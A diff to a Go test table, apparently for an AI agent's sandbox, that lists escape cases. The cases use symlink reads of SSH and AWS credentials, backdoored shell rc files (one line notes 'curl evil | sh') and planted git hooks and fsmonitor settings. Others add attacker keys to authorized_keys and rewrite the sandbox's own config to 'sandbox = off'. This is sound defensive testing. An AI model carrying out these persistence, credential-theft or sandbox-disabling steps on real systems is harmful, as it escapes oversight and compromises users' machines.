@@ -21,7 +21,12 @@ import (
 var ww = []string{"workspace-write"}
 
 // cases is the table. README.md is generated from it (TestReadmeIsCurrent).
-var cases = []*escapeCase{
+// persistenceCases (escape_persist_test.go) plant what a human runs later;
+// kernelCases (escape_kernel_test.go) reach kernel objects outside the file
+// system.
+var cases = slices.Concat(baseCases, persistenceCases, kernelCases)
+
+var baseCases = []*escapeCase{
 	// ── Paths: symlinks, hard links, .., prefixes ───────────────────────
 	{
 		Name: "symlink-to-outside-file",
@@ -69,7 +74,6 @@ ln -sfn /proc/self/root%[2]s/later3.txt l3 && echo %[1]s > l3`, r.pwn(), r.out()
 		Script: func(r *run) string {
 			return `cat link-ssh; cat link-aws/credentials; cat ~/.ssh/id_canary; cp ~/.ssh/id_canary stolen 2>&1; cat stolen`
 		},
-		Expect: onLandlock(gap(llReadDeny)),
 		Fence: []fenceCall{readFile(rel("link-ssh")), readFile(rel("link-aws/credentials")),
 			readFile(func(r *run) string { return filepath.Join(r.home(), ".ssh", "id_canary") })},
 	},
@@ -459,7 +463,6 @@ sleep 0.2`, r.pwn(), r.out(), r.tok)
 			}
 			return nil
 		},
-		Expect: onLandlock(gapIntact(llSurvives)),
 	},
 	{
 		Name:      "environment-secrets",
@@ -529,8 +532,7 @@ kill -HUP $PPID %[2]s 2>&1; true`, so, r.cordonPid())
 		Script: func(r *run) string {
 			return fmt.Sprintf(`for f in .bashrc .bash_profile .profile .zshrc .zprofile; do echo 'echo %[1]s # curl evil | sh' >> $f; done 2>&1; rm -f .bashrc; echo %[1]s > .bashrc; mv mine.txt .zshrc`, r.pwn())
 		},
-		Expect: onLandlockWW(gap(llProtected)),
-		Fence:  []fenceCall{writeFile(rel(".bashrc")), writeFile(rel(".zshrc")), writeFile(rel(".vscode/tasks.json")), writeFile(rel(".mcp.json"))},
+		Fence: []fenceCall{writeFile(rel(".bashrc")), writeFile(rel(".zshrc")), writeFile(rel(".vscode/tasks.json")), writeFile(rel(".mcp.json"))},
 	},
 	{
 		Name: "shell-rc-in-home",
@@ -539,12 +541,12 @@ kill -HUP $PPID %[2]s 2>&1; true`, so, r.cordonPid())
 		Script: func(r *run) string {
 			return fmt.Sprintf(`for f in .bashrc .bash_profile .profile .zshrc .zprofile; do echo 'echo %[1]s' >> ~/$f; done 2>&1; cp ~/.bashrc /tmp/b; echo %[1]s >> /tmp/b; cp /tmp/b ~/.bashrc; mv -f /tmp/b ~/.bashrc`, r.pwn())
 		},
-		Expect: onLandlockWW(gap(llProtected)),
+		Expect: homeRefused(),
 		Fence:  []fenceCall{writeFile(rel(".bashrc")), writeFile(func(r *run) string { return filepath.Join(r.home(), ".zshrc") })},
 	},
 	{
 		Name:  "home-unlisted-startup-files",
-		Doc:   "with the workspace at HOME, plant code in start-up files the protected list omits: ~/.zshenv, ~/.bash_login, ~/.gitconfig (core.fsmonitor), systemd user units, ~/.local/bin",
+		Doc:   "with the workspace at HOME, plant code in start-up files beyond the shell rc files: ~/.zshenv, ~/.bash_login, ~/.gitconfig (core.fsmonitor), systemd user units, ~/.local/bin",
 		Home:  true,
 		Modes: ww,
 		Setup: func(r *run) { gitInit(r.t, r.w.ws) },
@@ -568,7 +570,7 @@ printf '#!/bin/sh\necho %[1]s\nexec /usr/bin/git "$@"\n' > ~/.local/bin/git && c
 			return append(ev, humanRunsGit(r)...)
 		},
 		Fence:  []fenceCall{writeFile(rel(".zshenv")), writeFile(rel(".gitconfig"))},
-		Expect: map[string]outcome{"bwrap/workspace-write": gap(unlisted), "landlock/workspace-write": gap(unlisted)},
+		Expect: homeRefused(),
 	},
 	{
 		Name:  "git-hooks",
@@ -577,8 +579,7 @@ printf '#!/bin/sh\necho %[1]s\nexec /usr/bin/git "$@"\n' > ~/.local/bin/git && c
 		Script: func(r *run) string {
 			return fmt.Sprintf(`printf '%[1]s' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; cp .git/hooks/pre-commit .git/hooks/post-commit; rm -f .git/hooks/*.sample; ln -s ../../x .git/hooks/pre-push`, hookPayload(r))
 		},
-		Check:  humanRunsGit,
-		Expect: onLandlockWW(gap(llProtected)),
+		Check: humanRunsGit,
 		Fence: []fenceCall{{Tool: "write_file", Args: func(r *run) map[string]any {
 			return map[string]any{"path": ".git/hooks/pre-commit", "content": hookScript(r)}
 		}}},
@@ -592,8 +593,7 @@ printf '#!/bin/sh\necho %[1]s\nexec /usr/bin/git "$@"\n' > ~/.local/bin/git && c
 git config core.hooksPath evil-hooks 2>&1; git config core.fsmonitor 'echo hooked > %[2]s/hook-ran-%[3]s; false' 2>&1
 printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = false/bare = false\n\tfsmonitor = true/' .git/config 2>&1`, hookPayload(r), r.out(), r.tok)
 		},
-		Check:  humanRunsGit,
-		Expect: onLandlockWW(gap(llProtected)),
+		Check: humanRunsGit,
 		Fence: []fenceCall{{Tool: "edit_file", Args: func(r *run) map[string]any {
 			return map[string]any{"path": ".git/config", "old_string": "[core]", "new_string": "[core]\n\thooksPath = evil-hooks"}
 		}}},
@@ -606,8 +606,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return fmt.Sprintf(`mv .git .git-old && mkdir .git && (cd .git-old && tar cf - --exclude=./hooks --exclude=./config .) | (cd .git && tar xf -) && cp .git-old/config .git/config && mkdir .git/hooks && printf '%[1]s' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo ESCAPED-%[2]s:git-dir-replaced`, hookPayload(r), r.tok)
 		},
-		Check:  humanRunsGit,
-		Expect: onLandlock(gap(llProtected)),
+		Check: humanRunsGit,
 	},
 	{
 		Name:  "git-commondir",
@@ -622,7 +621,6 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		},
 		Script: func(r *run) string { return `echo ../evil > .git/commondir` },
 		Check:  humanRunsGit,
-		Expect: map[string]outcome{"bwrap/workspace-write": gap(commonDir), "landlock/workspace-write": gap(commonDir)},
 	},
 	{
 		Name:  "git-worktree-forged",
@@ -667,7 +665,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 			return `printf 'mode = "danger-full-access"\nsandbox = "off"\n' > ~/.config/cordon/config.toml; printf 'sandbox = "off"\n' >> .config/cordon/config.toml`
 		},
 		Check:  checkPosture,
-		Expect: onLandlockWW(gap(llProtected)),
+		Expect: homeRefused(),
 		Fence:  []fenceCall{writeFile(rel(".config/cordon/config.toml"))},
 	},
 	{
@@ -682,7 +680,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 			return fmt.Sprintf(`mv ~/.config ~/.config-old && mkdir -p ~/.config/cordon && printf 'mode = "danger-full-access"\nsandbox = "off"\n' > ~/.config/cordon/config.toml && echo ESCAPED-%s:config-replaced`, r.tok)
 		},
 		Check:  checkPosture,
-		Expect: onLandlock(gap(llProtected)),
+		Expect: homeRefused(),
 	},
 	{
 		Name: "cordon-workspace-config",
@@ -693,9 +691,8 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return `printf 'mode = "danger-full-access"\nsandbox = "off"\nextra_write_allow = ["/"]\n' > cordon.toml; mkdir -p .cordon && printf 'sandbox = "off"\nnetwork = "allow"\n' > .cordon/config.toml`
 		},
-		Check:  checkWorkspacePosture,
-		Expect: onLandlockWW(gap(llProtected)),
-		Fence:  []fenceCall{writeFile(rel("cordon.toml")), writeFile(rel(".cordon/config.toml"))},
+		Check: checkWorkspacePosture,
+		Fence: []fenceCall{writeFile(rel("cordon.toml")), writeFile(rel(".cordon/config.toml"))},
 	},
 	{
 		Name: "cordon-state-write",
@@ -720,8 +717,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return fmt.Sprintf(`cat %[1]s/canary.txt; cat %[1]s/http-token; head -c 2000 %[1]s/sessions/*.jsonl`, r.w.state)
 		},
-		Expect: onLandlock(gap(llReadDeny)),
-		Fence:  []fenceCall{readFile(func(r *run) string { return filepath.Join(r.w.state, "canary.txt") })},
+		Fence: []fenceCall{readFile(func(r *run) string { return filepath.Join(r.w.state, "canary.txt") })},
 	},
 	{
 		Name:  "cordon-state-dir-rename",
@@ -732,7 +728,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return fmt.Sprintf(`mv ~/.local ~/.local-old && mkdir -p ~/.local/state/cordon/sessions && echo forged > ~/.local/state/cordon/sessions/forged.jsonl && echo ESCAPED-%s:state-replaced`, r.tok)
 		},
-		Expect: onLandlock(gap(llProtected)),
+		Expect: homeRefused(),
 	},
 	{
 		Name:     "cordon-mode-from-inside",
@@ -750,7 +746,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Home:     true,
 		Script:   modeFromInside,
 		Check:    checkModeFromInside,
-		Expect:   onLandlockWW(gap(llProtected)),
+		Expect:   homeRefused(),
 	},
 	{
 		Name:  "http-token-self-approval",
@@ -791,7 +787,7 @@ printf '[core]\n\thooksPath = evil-hooks\n' >> .git/config; sed -i 's/bare = fal
 		Script: func(r *run) string {
 			return fmt.Sprintf(`echo 'ssh-ed25519 AAAA-attacker %[1]s' >> ~/.ssh/authorized_keys; printf 'Host *\n  ProxyCommand sh -c "echo %[1]s"\n' >> ~/.ssh/config; rm -rf ~/.ssh 2>&1; mv ~/.ssh ~/.ssh-old`, r.pwn())
 		},
-		Expect: onLandlockWW(gap(llReadDeny)),
+		Expect: homeRefused(),
 		Fence:  []fenceCall{writeFile(rel(".ssh/authorized_keys")), writeFile(rel(".ssh/config"))},
 	},
 
@@ -1002,30 +998,71 @@ func hookScript(r *run) string {
 // hookPayload is hookScript for printf in a shell script.
 func hookPayload(r *run) string { return strings.ReplaceAll(hookScript(r), "\n", `\n`) }
 
-// humanRunsGit plays the human: a commit and a status in the workspace,
-// outside any sandbox, with the user's HOME. A planted hook or fsmonitor
-// leaves hook-ran-TOKEN outside.
-func humanRunsGit(r *run) []string {
-	if _, err := os.Stat(filepath.Join(r.w.ws, ".git")); err != nil {
-		return nil
+// humanRunsGit plays the human: a commit, a status and (in a repository
+// with submodules) a `git submodule update --init` in the workspace,
+// outside any sandbox, with the user's HOME. A planted hook, fsmonitor or
+// filter leaves hook-ran-TOKEN outside.
+func humanRunsGit(r *run) []string { return humanRunsGitIn(r, r.w.ws) }
+
+// humanRunsGitIn does the same in each of the given work trees.
+func humanRunsGitIn(r *run, dirs ...string) []string {
+	for _, dir := range dirs {
+		if _, err := os.Stat(filepath.Join(dir, ".git")); err != nil {
+			continue
+		}
+		r.humanGit(dir, "commit", "--allow-empty", "-q", "-m", "human")
+		r.humanGit(dir, "status", "--short")
+		if _, err := os.Stat(filepath.Join(dir, ".gitmodules")); err == nil {
+			r.humanGit(dir, "submodule", "update", "--init")
+		}
 	}
-	env := []string{"HOME=" + r.w.home, "PATH=" + os.Getenv("PATH"), "GIT_CONFIG_NOSYSTEM=1", "XDG_CONFIG_HOME="}
-	for _, args := range [][]string{
-		{"-c", "user.name=Human", "-c", "user.email=human@example.com", "commit", "--allow-empty", "-q", "-m", "human"},
-		{"status", "--short"},
-	} {
-		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
-		cmd := exec.CommandContext(ctx, "git", append([]string{"-C", r.w.ws}, args...)...)
-		cmd.Env = env
-		cmd.CombinedOutput()
-		cancel()
-	}
-	marker := filepath.Join(r.w.outside, "hook-ran-"+r.tok)
-	if _, err := os.Stat(marker); err == nil {
-		hooks, _ := exec.Command("git", "-C", r.w.ws, "rev-parse", "--git-path", "hooks").Output()
-		return []string{fmt.Sprintf("the human's next `git commit` ran code planted from inside the sandbox (git now takes hooks from %s)", strings.TrimSpace(string(hooks)))}
+	if ran := r.ran(); ran != "" {
+		hooks, _ := exec.Command("git", "-C", dirs[0], "rev-parse", "--git-path", "hooks").Output()
+		return []string{fmt.Sprintf("the human's next git commit/status/submodule update in %s ran code planted from inside the sandbox (%s; git now takes hooks from %s)",
+			strings.Join(dirs, ", "), ran, strings.TrimSpace(string(hooks)))}
 	}
 	return nil
+}
+
+// humanGit runs git as the human, on the host and unconfined, with the
+// user's HOME and no system config, and returns its output.
+func (r *run) humanGit(dir string, args ...string) string {
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	cmd := exec.CommandContext(ctx, "git", append([]string{"-c", "user.name=Human", "-c", "user.email=human@example.com",
+		"-c", "init.defaultBranch=main", "-c", "protocol.file.allow=always", "-C", dir}, args...)...)
+	cmd.Env = r.humanEnv()
+	out, _ := cmd.CombinedOutput()
+	return string(out)
+}
+
+// setupGit is humanGit for a case's Setup: a failure fails the test.
+func (r *run) setupGit(dir string, args ...string) {
+	r.t.Helper()
+	cmd := exec.Command("git", append([]string{"-c", "user.name=Human", "-c", "user.email=human@example.com",
+		"-c", "init.defaultBranch=main", "-c", "protocol.file.allow=always", "-C", dir}, args...)...)
+	cmd.Env = r.humanEnv()
+	out, err := cmd.CombinedOutput()
+	must(r.t, errorsJoin(err, out))
+}
+
+func (r *run) humanEnv() []string {
+	return []string{"HOME=" + r.w.home, "PATH=" + os.Getenv("PATH"), "GIT_CONFIG_NOSYSTEM=1", "XDG_CONFIG_HOME=", "LANG=C.UTF-8", "TERM=dumb"}
+}
+
+// ranMarker is the file a planted payload leaves outside when the human
+// runs it; payload(label) is the shell command that leaves it, and ran
+// what it says ("" when nothing ran).
+func (r *run) ranMarker() string { return filepath.Join(r.w.outside, "hook-ran-"+r.tok) }
+
+func (r *run) payload(label string) string { return "echo " + label + " >> " + r.ranMarker() }
+
+func (r *run) ran() string {
+	data, err := os.ReadFile(r.ranMarker())
+	if err != nil {
+		return ""
+	}
+	return "it left: " + strings.Join(strings.Fields(string(data)), " ")
 }
 
 // readKmsg reads the kernel log records that arrived since f was opened.
